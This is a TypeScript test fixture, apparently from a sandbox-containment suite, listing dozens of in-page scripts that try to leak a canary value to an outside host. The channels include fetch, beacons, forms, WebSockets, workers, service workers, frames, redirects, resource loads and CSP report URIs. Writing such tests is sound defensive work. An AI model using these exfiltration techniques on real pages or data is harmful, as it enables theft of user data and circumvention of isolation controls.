// biome-ignore-all lint/suspicious/noTemplateCurlyInString: scripts of pages are written as texts here
/** Pages of the task's own site that send by themselves, as one does in which a visitor's comment runs: one row each. */
import { withOther } from "./channels.ts";
import { type Attack, CANARY } from "./obedient.ts";

type More = Partial<Omit<Attack, "name">>;

const writes = (name: string, script: string, more: More = {}): Attack => ({
  name,
  look: [["wait", "time", "250"]],
  ...more,
  home: { "/attack": withOther(`const canary = "${CANARY}"; ${script}`), ...more.home },
});

export const WRITES: readonly Attack[] = [
  writes("fetch with a body", "fetch(them + '/log', { method: 'POST', mode: 'no-cors', body: canary })"),
  writes("XMLHttpRequest", "const x = new XMLHttpRequest(); x.open('POST', them + '/log'); x.send(canary)"),
  writes("sendBeacon", "navigator.sendBeacon(them + '/log', canary)"),
  writes(
    "a request that outlives the page",
    "fetch(them + '/log', { method: 'POST', mode: 'no-cors', body: canary, keepalive: true }); location = '/'",
  ),
  writes(
    "a form",
    "document.write(`<form method=post action='${them}/log'><input name=d value='${canary}'></form>`); document.forms[0].submit()",
  ),
  writes(
    "a form into a frame",
    "document.write(`<iframe name=t></iframe><form method=post target=t action='${them}/log'><input name=d value='${canary}'></form>`); document.forms[0].submit()",
  ),
  writes(
    "a form that the own site leads on",
    "document.write(`<form method=post action='/on?to=${them}/log'><input name=d value='${canary}'></form>`); document.forms[0].submit()",
    {
      home: {
        "/on": (request) =>
          new Response(null, { status: 307, headers: { location: new URL(request.url).searchParams.get("to") ?? "" } }),
      },
    },
  ),
  writes("a socket", "new WebSocket(them.replace('http', 'ws') + '/s').onopen = (e) => e.target.send(canary)"),
  writes("the ping of a link", "document.write(`<a id=a href='#x' ping='${them}/log?d=${canary}'>x</a>`); a.click()", {
    isHeldAnyway: "pings carry no body of the page's own, and their address may be read",
  }),
  writes(
    "a worker",
    "new Worker(URL.createObjectURL(new Blob([`fetch('${them}/log', { method: 'POST', mode: 'no-cors', body: '${canary}' })`])))",
  ),
  writes(
    "a shared worker",
    "new SharedWorker(URL.createObjectURL(new Blob([`fetch('${them}/log', { method: 'POST', mode: 'no-cors', body: '${canary}' })`])))",
  ),
  writes(
    "a socket of a worker",
    "new Worker(URL.createObjectURL(new Blob([`new WebSocket('${them.replace('http', 'ws')}/s').onopen = (e) => e.target.send('${canary}')`])))",
  ),
  writes(
    "a frame of data",
    "document.write(`<iframe src=\"data:text/html,<script>fetch('${them}/log',{method:'POST',mode:'no-cors',body:'${canary}'})</scr` + `ipt>\"></iframe>`)",
  ),
  writes(
    "a frame of a blob",
    "const b = URL.createObjectURL(new Blob([`<script>fetch('${them}/log',{method:'POST',mode:'no-cors',body:'${canary}'})</scr` + `ipt>`], { type: 'text/html' })); document.write(`<iframe src='${b}'></iframe>`)",
  ),
  writes("a frame of the other site", "document.write(`<iframe src='${them}/post#${canary}'></iframe>`)", {
    evil: { "/post": "<script>fetch('/log', { method: 'POST', body: location.hash })</script>" },
  }),
  writes(
    "a service worker",
    "navigator.serviceWorker.register('/sw.js').then(() => navigator.serviceWorker.ready).then((r) => r.active.postMessage([them, canary]))",
    {
      look: [["wait", "time", "400"]],
      home: {
        "/sw.js": () =>
          new Response(
            "self.onmessage = ({ data: [them, canary] }) => fetch(them + '/log', { method: 'POST', mode: 'no-cors', body: canary })",
            {
              headers: { "content-type": "text/javascript" },
            },
          ),
      },
    },
  ),
];

/** The same where the run is limited to its own site: not even a question gets out. */
const reaches = (name: string, script: string, more: More = {}): Attack =>
  writes(name, `const to = them + "/log?d=" + canary; ${script}`, {
    rules: { allowedDomains: ["127.0.0.1"] },
    ...more,
  });

const put = (html: string, ...then: string[]) => [`document.write(\`${html}\`)`, ...then].join("; ");
const inDocument = (html: string) => put(html.replaceAll("</script", "</scr` + `ipt"));

export const REACHES: readonly Attack[] = [
  reaches("a picture", put("<img src='${to}'>")),
  reaches("a script", inDocument("<script src='${to}'></script>")),
  reaches("a style sheet", put("<link rel=stylesheet href='${to}'>")),
  reaches("an import of a style sheet", put("<style>@import '${to}';</style>")),
  reaches("a background", put("<p style='background:url(${to})'>x</p>")),
  reaches("a font", put("<style>@font-face{font-family:f;src:url('${to}')}p{font-family:f}</style><p>x</p>")),
  reaches("a film", put("<video src='${to}' preload=auto></video>")),
  reaches("an object", put("<object data='${to}'></object>")),
  reaches("an embedded page", put("<embed src='${to}'>")),
  reaches("a frame", put("<iframe src='${to}'></iframe>")),
  reaches("a preload", put("<link rel=preload as=fetch crossorigin href='${to}'>")),
  reaches("a module", "import(to).catch(() => {})"),
  reaches("a request", "fetch(to, { mode: 'no-cors' })"),
  reaches("a request with credentials", "fetch(to, { mode: 'no-cors', credentials: 'include' })"),
  reaches("events", "new EventSource(to)"),
  reaches("a socket", "new WebSocket(to.replace('http', 'ws'))"),
  reaches(
    "a form",
    put("<form action='${them}/log'><input name=d value='${canary}'></form>", "document.forms[0].submit()"),
  ),
  reaches("a link", put("<a id=a href='${to}'>x</a>", "a.click()")),
  reaches("a new window", put("<a id=a href='${to}' target=_blank>x</a>", "a.click()")),
  reaches("another address", "location = to"),
  reaches("a refresh", put("<meta http-equiv=refresh content='0;url=${to}'>")),
  reaches("where the own site leads", "location = '/redirect?to=' + encodeURIComponent(to)"),
  reaches("a picture that the own site leads to", put("<img src='/redirect?to=${encodeURIComponent(to)}'>")),
  reaches("a worker", "new Worker(URL.createObjectURL(new Blob([`fetch('${to}', { mode: 'no-cors' })`])))"),
  reaches("a script of a worker", "new Worker(URL.createObjectURL(new Blob([`importScripts('${to}')`])))"),
  reaches(
    "a frame of a blob",
    "const b = URL.createObjectURL(new Blob([`<img src='${to}'>`], { type: 'text/html' })); document.write(`<iframe src='${b}'></iframe>`)",
  ),
  reaches("a frame without an origin", put("<iframe sandbox=allow-scripts srcdoc=\"<img src='${to}'>\"></iframe>")),
  reaches("a policy's report", "", {
    home: {
      "/attack": (request) => {
        const them = decodeURIComponent(/them=([^;]*)/.exec(request.headers.get("cookie") ?? "")?.[1] ?? "");
        const policy = `img-src 'none'; report-uri ${them}/log?d=${CANARY}`;
        return new Response("<img src=/x>", {
          headers: { "content-type": "text/html", "content-security-policy": policy },
        });
      },
    },
    look: [["wait", "time", "600"]],
  }),
];
